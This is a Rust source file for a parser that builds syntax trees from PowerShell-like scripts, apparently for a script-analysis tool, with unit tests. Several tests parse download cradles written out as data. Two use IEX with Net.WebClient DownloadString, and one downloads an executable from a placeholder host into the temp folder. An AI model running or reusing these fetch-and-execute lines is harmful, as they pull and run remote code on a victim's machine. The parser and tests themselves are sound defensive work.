//! Recursive-descent parser producing [`AstNode`] trees.
//!
//! The parser never fails: a statement that does not fit the grammar is
//! wrapped in an `ErrorAst` spanning from the statement start to the next
//! statement separator, with its lexemes kept as `ArgumentAst` leaves, and
//! parsing resumes after the separator.

use crate::ast::{AstKind, AstNode};
use crate::lexer::{lex, Lexeme, LexemeKind, Span};
use crate::script::SourceScript;

use AstKind::*;
use LexemeKind as L;

const MAX_DEPTH: usize = 200;

const UNARY_DASH_OPS: &[&str] = &["not", "bnot", "join", "split"];

const BINARY_DASH_OPS: &[&str] = &[
    "eq",
    "ne",
    "gt",
    "ge",
    "lt",
    "le",
    "like",
    "notlike",
    "match",
    "notmatch",
    "replace",
    "contains",
    "notcontains",
    "in",
    "notin",
    "is",
    "isnot",
    "as",
    "join",
    "split",
    "f",
    "and",
    "or",
    "xor",
    "band",
    "bor",
    "bxor",
    "shl",
    "shr",
    "ceq",
    "cne",
    "ieq",
    "ine",
    "clike",
    "ilike",
    "cmatch",
    "imatch",
    "creplace",
    "ireplace",
    "csplit",
    "isplit",
];

const ASSIGNMENT_OPS: &[&str] = &["=", "+=", "-=", "*=", "/=", "%="];

/// Parses a script into a tree rooted at `ScriptRoot`.
pub fn parse(script: &SourceScript) -> AstNode {
    parse_source(&script.text)
}

pub fn parse_source(src: &str) -> AstNode {
    let toks: Vec<Lexeme<'_>> = lex(src).into_iter().filter(|l| l.kind != L::Comment).collect();
    let mut parser = Parser {
        src,
        toks,
        pos: 0,
        depth: 0,
    };
    let children = parser.statement_list(Closer::Eof);
    AstNode {
        kind: ScriptRoot,
        text: src.to_string(),
        span: Span::new(0, src.len()),
        children,
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Closer {
    Eof,
    Brace,
    Paren,
}

#[derive(Debug)]
struct SyntaxError {
    /// Token index where the grammar gave up.
    at: usize,
    #[allow(dead_code)]
    message: &'static str,
}

type PResult<T> = Result<T, SyntaxError>;

struct Parser<'a> {
    src: &'a str,
    toks: Vec<Lexeme<'a>>,
    pos: usize,
    depth: usize,
}

impl<'a> Parser<'a> {
    // ---- token helpers ----

    fn peek(&self) -> Option<&Lexeme<'a>> {
        self.toks.get(self.pos)
    }

    fn peek_kind(&self) -> Option<LexemeKind> {
        self.peek().map(|l| l.kind)
    }

    fn peek_kind_at(&self, offset: usize) -> Option<LexemeKind> {
        self.toks.get(self.pos + offset).map(|l| l.kind)
    }

    fn at(&self, kind: LexemeKind) -> bool {
        self.peek_kind() == Some(kind)
    }

    fn at_op(&self, text: &str) -> bool {
        matches!(self.peek(), Some(l) if l.kind == L::Operator && l.text == text)
    }

    fn at_keyword(&self, keyword: &str) -> bool {
        matches!(self.peek(), Some(l) if l.kind == L::Word && l.text.eq_ignore_ascii_case(keyword))
    }

    /// True when the next token starts exactly where the previous one ended.
    fn next_is_attached(&self) -> bool {
        match (self.pos.checked_sub(1).and_then(|i| self.toks.get(i)), self.peek()) {
            (Some(prev), Some(next)) => prev.span.end == next.span.start,
            _ => false,
        }
    }

    fn bump(&mut self) -> Lexeme<'a> {
        let lexeme = self.toks[self.pos];
        self.pos += 1;
        lexeme
    }

    fn expect(&mut self, kind: LexemeKind, message: &'static str) -> PResult<Lexeme<'a>> {
        if self.at(kind) {
            Ok(self.bump())
        } else {
            self.fail(message)
        }
    }

    fn expect_keyword(&mut self, keyword: &str, message: &'static str) -> PResult<Lexeme<'a>> {
        if self.at_keyword(keyword) {
            Ok(self.bump())
        } else {
            self.fail(message)
        }
    }

    fn skip_newlines(&mut self) {
        while self.at(L::Newline) {
            self.pos += 1;
        }
    }

    fn fail<T>(&self, message: &'static str) -> PResult<T> {
        Err(SyntaxError { at: self.pos, message })
    }

    fn enter(&mut self) -> PResult<()> {
        if self.depth >= MAX_DEPTH {
            return self.fail("nesting too deep");
        }
        self.depth += 1;
        Ok(())
    }

    fn leave(&mut self) {
        self.depth -= 1;
    }

    // ---- node construction ----

    fn leaf(&self, kind: AstKind, lexeme: &Lexeme<'_>) -> AstNode {
        AstNode::leaf(kind, lexeme.text, lexeme.span)
    }

    fn span_node(&self, kind: AstKind, span: Span, children: Vec<AstNode>) -> AstNode {
        AstNode {
            kind,
            text: self.src[span.start..span.end].to_string(),
            span,
            children,
        }
    }

    /// Node covering tokens `start..self.pos`.
    fn node(&self, kind: AstKind, start: usize, children: Vec<AstNode>) -> AstNode {
        let first = self.toks[start].span.start;
        let last = self.toks[self.pos.max(start + 1) - 1].span.end;
        self.span_node(kind, Span::new(first, last), children)
    }

    fn wrap(&self, kind: AstKind, inner: AstNode) -> AstNode {
        let span = inner.span;
        self.span_node(kind, span, vec![inner])
    }

    // ---- statements ----

    fn statement_list(&mut self, closer: Closer) -> Vec<AstNode> {
        let mut out = Vec::new();
        loop {
            while matches!(self.peek_kind(), Some(L::Newline | L::Semicolon)) {
                self.pos += 1;
            }
            match self.peek_kind() {
                None => break,
                Some(L::CloseBrace) if closer == Closer::Brace => break,
                Some(L::CloseParen) if closer == Closer::Paren => break,
                _ => {}
            }
            let start = self.pos;
            let depth = self.depth;
            match self.parse_statement() {
                Ok(statement) => {
                    out.push(statement);
                    if !self.at_statement_end(closer) {
                        let from = self.pos;
                        out.push(self.error_region(from, from, closer));
                    }
                }
                Err(err) => {
                    self.depth = depth;
                    out.push(self.error_region(start, err.at.max(start), closer));
                }
            }
        }
        out
    }

    fn at_statement_end(&self, closer: Closer) -> bool {
        match self.peek_kind() {
            None | Some(L::Newline | L::Semicolon) => true,
            Some(L::CloseBrace) => closer == Closer::Brace,
            Some(L::CloseParen) => closer == Closer::Paren,
            _ => false,
        }
    }

    /// Wraps tokens from `from` up to the first separator at or after
    /// `err_at` in an `ErrorAst`, and resumes after them.
    fn error_region(&mut self, from: usize, err_at: usize, closer: Closer) -> AstNode {
        let mut stop = err_at.min(self.toks.len());
        while let Some(tok) = self.toks.get(stop) {
            let is_boundary = match tok.kind {
                L::Newline | L::Semicolon => true,
                L::CloseBrace => closer == Closer::Brace,
                L::CloseParen => closer == Closer::Paren,
                _ => false,
            };
            if is_boundary {
                break;
            }
            stop += 1;
        }
        let stop = stop.max(from + 1);
        self.pos = stop;
        let children = self.toks[from..stop]
            .iter()
            .filter(|t| t.kind != L::Newline)
            .map(|t| self.leaf(ArgumentAst, t))
            .collect();
        self.node(ErrorAst, from, children)
    }

    fn parse_statement(&mut self) -> PResult<AstNode> {
        self.enter()?;
        let result = self.parse_statement_inner();
        self.leave();
        result
    }

    fn parse_statement_inner(&mut self) -> PResult<AstNode> {
        if let Some(lexeme) = self.peek().filter(|l| l.kind == L::Word) {
            let word = lexeme.text.to_ascii_lowercase();
            let next = self.peek_kind_at(1);
            match word.as_str() {
                "function" | "filter" if next == Some(L::Word) => return self.parse_function(),
                "if" => return self.parse_if(),
                "while" => return self.parse_while(),
                "for" if next == Some(L::OpenParen) => return self.parse_for(),
                "foreach" if next == Some(L::OpenParen) => return self.parse_foreach(),
                "do" if next == Some(L::OpenBrace) => return self.parse_do(),
                _ => {}
            }
        }
        self.parse_pipeline_statement()
    }

    fn parse_pipeline_statement(&mut self) -> PResult<AstNode> {
        let start = self.pos;
        let first = if self.at_expression_start() {
            let expr = self.parse_expression(true)?;
            if self.at_assignment_op() {
                let op = self.bump();
                let op = self.leaf(OperatorAst, &op);
                self.skip_newlines();
                let rhs = unwrap_pipeline(self.parse_statement()?);
                return Ok(self.node(AssignmentAst, start, vec![expr, op, rhs]));
            }
            self.wrap(CommandExpressionAst, expr)
        } else {
            self.parse_command()?
        };
        let mut elements = vec![first];
        while self.at(L::Pipe) {
            self.pos += 1;
            self.skip_newlines();
            elements.push(self.parse_pipeline_element()?);
        }
        Ok(self.node(PipelineAst, start, elements))
    }

    fn parse_pipeline_element(&mut self) -> PResult<AstNode> {
        if self.at_expression_start() {
            let expr = self.parse_expression(true)?;
            Ok(self.wrap(CommandExpressionAst, expr))
        } else {
            self.parse_command()
        }
    }

    fn at_assignment_op(&self) -> bool {
        matches!(self.peek(), Some(l) if l.kind == L::Operator && ASSIGNMENT_OPS.contains(&l.text))
    }

    fn at_expression_start(&self) -> bool {
        match self.peek() {
            None => false,
            Some(l) => match l.kind {
                L::Variable | L::StringLiteral | L::Number | L::OpenParen | L::OpenBracket | L::OpenBrace => true,
                L::Operator => matches!(l.text, "$" | "@" | "!" | "-" | "+" | "++" | "--" | ","),
                L::Parameter => is_dash_op(l.text, UNARY_DASH_OPS),
                _ => false,
            },
        }
    }

    fn parse_command(&mut self) -> PResult<AstNode> {
        let start = self.pos;
        let mut children = Vec::new();
        let mut expect_type_name = false;
        match self.peek() {
            Some(l) if l.kind == L::Word => {
                let head = self.bump();
                expect_type_name = head.text.eq_ignore_ascii_case("New-Object");
                children.push(self.leaf(CmdletAst, &head));
            }
            Some(l) if l.kind == L::Dot || (l.kind == L::Operator && l.text == "&") => {
                let op = self.bump();
                children.push(self.leaf(OperatorAst, &op));
                if self.at(L::Word) {
                    let head = self.bump();
                    children.push(self.leaf(CmdletAst, &head));
                } else {
                    children.push(self.parse_command_operand()?);
                }
            }
            _ => return self.fail("expected a command"),
        }
        while let Some(lexeme) = self.peek().copied() {
            match lexeme.kind {
                L::Pipe | L::Semicolon | L::Newline | L::CloseParen | L::CloseBrace | L::CloseBracket => break,
                L::Parameter => {
                    self.pos += 1;
                    if expect_type_name && !lexeme.text.eq_ignore_ascii_case("-TypeName") {
                        expect_type_name = lexeme.text.eq_ignore_ascii_case("-ComObject");
                    }
                    children.push(self.leaf(CommandParameterAst, &lexeme));
                }
                L::Word | L::Number => {
                    self.pos += 1;
                    let kind = if expect_type_name && lexeme.kind == L::Word {
                        expect_type_name = false;
                        TypeNameAst
                    } else {
                        ArgumentAst
                    };
                    children.push(self.leaf(kind, &lexeme));
                }
                L::Operator if !matches!(lexeme.text, "$" | "@") => {
                    self.pos += 1;
                    children.push(self.leaf(OperatorAst, &lexeme));
                }
                L::Dot => {
                    self.pos += 1;
                    children.push(self.leaf(OperatorAst, &lexeme));
                }
                L::Unknown => return self.fail("unrecognized character"),
                _ => {
                    let arg_start = self.pos;
                    let operand = self.parse_command_operand()?;
                    children.push(self.node(ArgumentAst, arg_start, vec![operand]));
                }
            }
        }
        Ok(self.node(CommandAst, start, children))
    }

    /// Argument-mode operand: a primary with member access, no binary operators.
    fn parse_command_operand(&mut self) -> PResult<AstNode> {
        let start = self.pos;
        let primary = self.parse_primary()?;
        self.parse_postfix(start, primary)
    }

    // ---- control flow ----

    fn parse_block(&mut self) -> PResult<AstNode> {
        let start = self.pos;
        self.expect(L::OpenBrace, "expected '{'")?;
        let statements = self.statement_list(Closer::Brace);
        self.expect(L::CloseBrace, "expected '}'")?;
        Ok(self.node(ScriptBlockAst, start, statements))
    }

    fn parse_if(&mut self) -> PResult<AstNode> {
        let start = self.pos;
        self.bump();
        self.skip_newlines();
        let mut children = vec![self.parse_paren()?];
        self.skip_newlines();
        children.push(self.parse_block()?);
        loop {
            let save = self.pos;
            self.skip_newlines();
            if self.at_keyword("elseif") {
                self.bump();
                self.skip_newlines();
                children.push(self.parse_paren()?);
                self.skip_newlines();
                children.push(self.parse_block()?);
            } else if self.at_keyword("else") {
                self.bump();
                self.skip_newlines();
                children.push(self.parse_block()?);
                break;
            } else {
                self.pos = save;
                break;
            }
        }
        Ok(self.node(IfAst, start, children))
    }

    fn parse_while(&mut self) -> PResult<AstNode> {
        let start = self.pos;
        self.bump();
        self.skip_newlines();
        let condition = self.parse_paren()?;
        self.skip_newlines();
        let body = self.parse_block()?;
        Ok(self.node(LoopAst, start, vec![condition, body]))
    }

    fn parse_for(&mut self) -> PResult<AstNode> {
        let start = self.pos;
        self.bump();
        let header_start = self.pos;
        self.expect(L::OpenParen, "expected '('")?;
        let clauses = self.statement_list(Closer::Paren);
        self.expect(L::CloseParen, "expected ')'")?;
        let header = self.node(ExpressionAst, header_start, clauses);
        self.skip_newlines();
        let body = self.parse_block()?;
        Ok(self.node(LoopAst, start, vec![header, body]))
    }

    fn parse_foreach(&mut self) -> PResult<AstNode> {
        let start = self.pos;
        self.bump();
        self.expect(L::OpenParen, "expected '('")?;
        self.skip_newlines();
        let variable = self.expect(L::Variable, "expected loop variable")?;
        let variable = self.leaf(VariableAst, &variable);
        self.skip_newlines();
        self.expect_keyword("in", "expected 'in'")?;
        self.skip_newlines();
        let collection = unwrap_pipeline(self.parse_statement()?);
        self.skip_newlines();
        self.expect(L::CloseParen, "expected ')'")?;
        self.skip_newlines();
        let body = self.parse_block()?;
        Ok(self.node(LoopAst, start, vec![variable, collection, body]))
    }

    fn parse_do(&mut self) -> PResult<AstNode> {
        let start = self.pos;
        self.bump();
        let body = self.parse_block()?;
        self.skip_newlines();
        if !(self.at_keyword("while") || self.at_keyword("until")) {
            return self.fail("expected 'while' or 'until'");
        }
        self.bump();
        self.skip_newlines();
        let condition = self.parse_paren()?;
        Ok(self.node(LoopAst, start, vec![body, condition]))
    }

    fn parse_function(&mut self) -> PResult<AstNode> {
        let start = self.pos;
        self.bump();
        let name = self.expect(L::Word, "expected function name")?;
        let mut children = vec![self.leaf(CmdletAst, &name)];
        if self.at(L::OpenParen) {
            children.push(self.parse_paren()?);
        }
        self.skip_newlines();
        children.push(self.parse_block()?);
        Ok(self.node(FunctionDefinitionAst, start, children))
    }

    // ---- expressions ----

    fn at_binary_op(&self, allow_comma: bool) -> bool {
        match self.peek() {
            Some(l) if l.kind == L::Operator => {
                matches!(l.text, "+" | "-" | "*" | "/" | "%") || (allow_comma && l.text == ",")
            }
            Some(l) if l.kind == L::Parameter => is_dash_op(l.text, BINARY_DASH_OPS),
            _ => false,
        }
    }

    fn parse_expression(&mut self, allow_comma: bool) -> PResult<AstNode> {
        let start = self.pos;
        let first = self.parse_unary()?;
        if !self.at_binary_op(allow_comma) {
            return Ok(first);
        }
        let mut parts = vec![first];
        while self.at_binary_op(allow_comma) {
            let op = self.bump();
            parts.push(self.leaf(OperatorAst, &op));
            self.skip_newlines();
            parts.push(self.parse_unary()?);
        }
        Ok(self.node(ExpressionAst, start, parts))
    }

    fn parse_unary(&mut self) -> PResult<AstNode> {
        self.enter()?;
        let result = self.parse_unary_inner();
        self.leave();
        result
    }

    fn parse_unary_inner(&mut self) -> PResult<AstNode> {
        let start = self.pos;
        let is_unary_op = match self.peek() {
            Some(l) if l.kind == L::Operator => matches!(l.text, "!" | "-" | "+" | "++" | "--" | ","),
            Some(l) if l.kind == L::Parameter => is_dash_op(l.text, UNARY_DASH_OPS),
            _ => false,
        };
        if is_unary_op {
            let op = self.bump();
            let op = self.leaf(OperatorAst, &op);
            let operand = self.parse_unary()?;
            return Ok(self.node(ExpressionAst, start, vec![op, operand]));
        }
        if self.at(L::OpenBracket) {
            let type_name = self.parse_type_literal()?;
            if self.at_op("::") || (self.at(L::Dot) && self.next_is_attached()) {
                return self.parse_postfix(start, type_name);
            }
            if self.at_cast_operand() {
                let operand = self.parse_unary()?;
                return Ok(self.node(ExpressionAst, start, vec![type_name, operand]));
            }
            return Ok(type_name);
        }
        let primary = self.parse_primary()?;
        self.parse_postfix(start, primary)
    }

    fn at_cast_operand(&self) -> bool {
        match self.peek() {
            Some(l) => match l.kind {
                L::Variable | L::StringLiteral | L::Number | L::OpenParen | L::OpenBracket | L::OpenBrace => true,
                L::Operator => matches!(l.text, "$" | "@"),
                _ => false,
            },
            None => false,
        }
    }

    fn parse_type_literal(&mut self) -> PResult<AstNode> {
        self.expect(L::OpenBracket, "expected '['")?;
        let name = self.expect(L::Word, "expected type name")?;
        self.expect(L::CloseBracket, "expected ']'")?;
        Ok(self.leaf(TypeNameAst, &name))
    }

    fn parse_postfix(&mut self, start: usize, mut target: AstNode) -> PResult<AstNode> {
        loop {
            let member = (self.at(L::Dot) && self.next_is_attached()) || self.at_op("::");
            if member {
                self.bump();
                let name = self.expect(L::Word, "expected member name")?;
                let name_node = self.leaf(MethodNameAst, &name);
                if self.at(L::OpenParen) && self.next_is_attached() {
                    let mut children = vec![target, name_node];
                    children.extend(self.parse_call_args()?);
                    target = self.node(MethodInvocationAst, start, children);
                } else {
                    target = self.node(ExpressionAst, start, vec![target, name_node]);
                }
            } else if self.at(L::OpenBracket) && self.next_is_attached() {
                self.bump();
                self.skip_newlines();
                let index = self.parse_expression(true)?;
                self.skip_newlines();
                self.expect(L::CloseBracket, "expected ']'")?;
                target = self.node(ExpressionAst, start, vec![target, index]);
            } else if (self.at_op("++") || self.at_op("--")) && self.next_is_attached() {
                let op = self.bump();
                let op = self.leaf(OperatorAst, &op);
                target = self.node(ExpressionAst, start, vec![target, op]);
            } else {
                return Ok(target);
            }
        }
    }

    fn parse_call_args(&mut self) -> PResult<Vec<AstNode>> {
        self.expect(L::OpenParen, "expected '('")?;
        self.skip_newlines();
        let mut args = Vec::new();
        if self.at(L::CloseParen) {
            self.bump();
            return Ok(args);
        }
        loop {
            let arg_start = self.pos;
            let value = self.parse_expression(false)?;
            args.push(self.node(ArgumentAst, arg_start, vec![value]));
            self.skip_newlines();
            if self.at_op(",") {
                self.bump();
                self.skip_newlines();
            } else if self.at(L::CloseParen) {
                self.bump();
                return Ok(args);
            } else {
                return self.fail("expected ',' or ')'");
            }
        }
    }

    fn parse_primary(&mut self) -> PResult<AstNode> {
        self.enter()?;
        let result = self.parse_primary_inner();
        self.leave();
        result
    }

    fn parse_primary_inner(&mut self) -> PResult<AstNode> {
        let start = self.pos;
        let Some(lexeme) = self.peek().copied() else {
            return self.fail("unexpected end of input");
        };
        match lexeme.kind {
            L::Variable => {
                self.pos += 1;
                Ok(self.leaf(VariableAst, &lexeme))
            }
            L::StringLiteral => {
                self.pos += 1;
                Ok(self.leaf(StringLiteralAst, &lexeme))
            }
            L::Number => {
                self.pos += 1;
                Ok(self.leaf(ExpressionAst, &lexeme))
            }
            L::OpenParen => self.parse_paren(),
            L::OpenBrace => self.parse_block(),
            L::OpenBracket => self.parse_type_literal(),
            L::Operator if matches!(lexeme.text, "$" | "@") => {
                self.pos += 1;
                if self.at(L::OpenParen) && self.next_is_attached() {
                    self.bump();
                    let statements = self.statement_list(Closer::Paren);
                    self.expect(L::CloseParen, "expected ')'")?;
                    Ok(self.node(ExpressionAst, start, statements))
                } else if self.at(L::OpenBrace) && self.next_is_attached() {
                    let block = self.parse_block()?;
                    Ok(self.node(ExpressionAst, start, vec![block]))
                } else {
                    self.fail("expected '(' or '{'")
                }
            }
            _ => self.fail("expected an expression"),
        }
    }

    fn parse_paren(&mut self) -> PResult<AstNode> {
        let start = self.pos;
        self.expect(L::OpenParen, "expected '('")?;
        self.skip_newlines();
        if self.at(L::CloseParen) {
            self.bump();
            return Ok(self.node(ExpressionAst, start, Vec::new()));
        }
        let inner = unwrap_pipeline(self.parse_statement()?);
        self.skip_newlines();
        self.expect(L::CloseParen, "expected ')'")?;
        Ok(self.node(ExpressionAst, start, vec![inner]))
    }
}

fn is_dash_op(text: &str, table: &[&str]) -> bool {
    text.strip_prefix('-')
        .is_some_and(|name| table.iter().any(|op| op.eq_ignore_ascii_case(name)))
}

/// A single-element pipeline in value position collapses to its element
/// (and a command expression to its expression).
fn unwrap_pipeline(mut node: AstNode) -> AstNode {
    if node.kind != PipelineAst || node.children.len() != 1 {
        return node;
    }
    let mut element = node.children.pop().expect("one child");
    if element.kind == CommandExpressionAst && element.children.len() == 1 {
        element = element.children.pop().expect("one child");
    }
    element
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shape(node: &AstNode) -> String {
        if node.children.is_empty() {
            format!("{}({:?})", node.kind, node.text)
        } else {
            let inner: Vec<String> = node.children.iter().map(shape).collect();
            format!("{}[{}]", node.kind, inner.join(", "))
        }
    }

    fn statements(src: &str) -> Vec<String> {
        parse_source(src).children.iter().map(shape).collect()
    }

    #[test]
    fn empty_script() {
        let root = parse_source("");
        assert_eq!(root.kind, ScriptRoot);
        assert!(root.children.is_empty());
        assert!(parse_source("\n;\n # only a comment\n").children.is_empty());
    }

    #[test]
    fn ping_command() {
        assert_eq!(
            statements("ping -c 4 -t 64 uc.edu"),
            vec![
                r#"PipelineAst[CommandAst[CmdletAst("ping"), CommandParameterAst("-c"), ArgumentAst("4"), CommandParameterAst("-t"), ArgumentAst("64"), ArgumentAst("uc.edu")]]"#
            ]
        );
    }

    #[test]
    fn download_cradle() {
        assert_eq!(
            statements("IEX (New-Object Net.WebClient).DownloadString('u')"),
            vec![concat!(
                "PipelineAst[CommandAst[CmdletAst(\"IEX\"), ArgumentAst[MethodInvocationAst[",
                "ExpressionAst[CommandAst[CmdletAst(\"New-Object\"), TypeNameAst(\"Net.WebClient\")]], ",
                "MethodNameAst(\"DownloadString\"), ArgumentAst[StringLiteralAst(\"'u'\")]]]]]"
            )]
        );
    }

    #[test]
    fn assignment_and_static_call() {
        assert_eq!(
            statements("$b = [Convert]::FromBase64String($s)"),
            vec![concat!(
                "AssignmentAst[VariableAst(\"$b\"), OperatorAst(\"=\"), MethodInvocationAst[",
                "TypeNameAst(\"Convert\"), MethodNameAst(\"FromBase64String\"), ArgumentAst[VariableAst(\"$s\")]]]"
            )]
        );
    }

    #[test]
    fn pipeline_with_script_block() {
        assert_eq!(
            statements("Get-Service | Where-Object { $_.Status -eq 'Running' }"),
            vec![concat!(
                "PipelineAst[CommandAst[CmdletAst(\"Get-Service\")], CommandAst[CmdletAst(\"Where-Object\"), ",
                "ArgumentAst[ScriptBlockAst[PipelineAst[CommandExpressionAst[ExpressionAst[",
                "ExpressionAst[VariableAst(\"$_\"), MethodNameAst(\"Status\")], OperatorAst(\"-eq\"), ",
                "StringLiteralAst(\"'Running'\")]]]]]]]"
            )]
        );
    }

    #[test]
    fn control_flow() {
        let root = parse_source(
            "if ($x -gt 1) {\n  Write-Host big\n} elseif ($x) { a } else {\n b\n}\n\
             foreach ($f in Get-ChildItem) { $f.Name }\n\
             while ($true) { break }\n\
             for ($i = 0; $i -lt 3; $i++) { $i }\n\
             do { x } until ($done)\n\
             function Get-Thing($a, $b) { return $a }",
        );
        let kinds: Vec<_> = root.children.iter().map(|c| c.kind).collect();
        assert_eq!(
            kinds,
            vec![IfAst, LoopAst, LoopAst, LoopAst, LoopAst, FunctionDefinitionAst]
        );
        assert_eq!(root.count_kind(ErrorAst), 0, "{}", root.dump());
        let if_kinds: Vec<_> = root.children[0].children.iter().map(|c| c.kind).collect();
        assert_eq!(
            if_kinds,
            vec![
                ExpressionAst,
                ScriptBlockAst,
                ExpressionAst,
                ScriptBlockAst,
                ScriptBlockAst
            ]
        );
        let function = &root.children[5];
        assert_eq!(function.children[0].kind, CmdletAst);
        assert_eq!(function.children[0].text, "Get-Thing");
    }

    #[test]
    fn keywords_are_case_insensitive() {
        let root = parse_source("IF ($a) { b } ELSE { c }\nFunction f { }");
        assert_eq!(root.children[0].kind, IfAst);
        assert_eq!(root.children[1].kind, FunctionDefinitionAst);
        let cmd = parse_source("new-object -typename System.Net.WebClient");
        assert_eq!(cmd.count_kind(TypeNameAst), 1);
    }

    #[test]
    fn method_args_may_span_lines() {
        let root = parse_source("IEX (New-Object Net.WebClient).DownloadString(\n'http://a.example/x');\nb");
        assert_eq!(root.children.len(), 2);
        assert_eq!(root.count_kind(ErrorAst), 0);
    }

    #[test]
    fn garbage_is_confined() {
        let root = parse_source("a 1\n) ] junk\nb 2");
        let kinds: Vec<_> = root.children.iter().map(|c| c.kind).collect();
        assert_eq!(kinds, vec![PipelineAst, ErrorAst, PipelineAst]);
        let error = &root.children[1];
        assert_eq!(error.text, ") ] junk");
        let words: Vec<_> = error.children.iter().map(|c| (c.kind, c.text.as_str())).collect();
        assert_eq!(
            words,
            vec![(ArgumentAst, ")"), (ArgumentAst, "]"), (ArgumentAst, "junk")]
        );
    }

    #[test]
    fn trailing_junk_after_valid_statement() {
        let root = parse_source("foo ] bar");
        let kinds: Vec<_> = root.children.iter().map(|c| c.kind).collect();
        assert_eq!(kinds, vec![PipelineAst, ErrorAst]);
        assert_eq!(root.children[1].text, "] bar");
    }

    #[test]
    fn error_inside_block_is_recovered_locally() {
        let root = parse_source("if ($a) {\n  ok 1\n  \u{1} bad\n  ok 2\n}");
        assert_eq!(root.children.len(), 1);
        let block = &root.children[0].children[1];
        let kinds: Vec<_> = block.children.iter().map(|c| c.kind).collect();
        assert_eq!(kinds, vec![PipelineAst, ErrorAst, PipelineAst]);
    }

    #[test]
    fn unterminated_constructs_do_not_panic() {
        for src in [
            "(",
            "{",
            "foo (",
            "$(",
            "[",
            "[int",
            "if (",
            "function f {",
            "$a.",
            "a |",
            "@{ x = ",
        ] {
            let root = parse_source(src);
            assert!(root.count_kind(ErrorAst) >= 1, "{src:?}: {}", root.dump());
        }
    }

    #[test]
    fn deep_nesting_is_bounded() {
        let src = "(".repeat(5000);
        let root = parse_source(&src);
        assert_eq!(root.children.len(), 1);
        assert_eq!(root.children[0].kind, ErrorAst);
    }

    #[test]
    fn spans_match_text() {
        let src = "$w = New-Object Net.WebClient\n$w.DownloadFile('http://a.example/p', \"$env:TEMP\\p.exe\")";
        let root = parse_source(src);
        for (node, _) in root.walk() {
            assert_eq!(node.text, &src[node.span.start..node.span.end]);
            for child in &node.children {
                assert!(node.span.contains(child.span));
            }
        }
    }
}
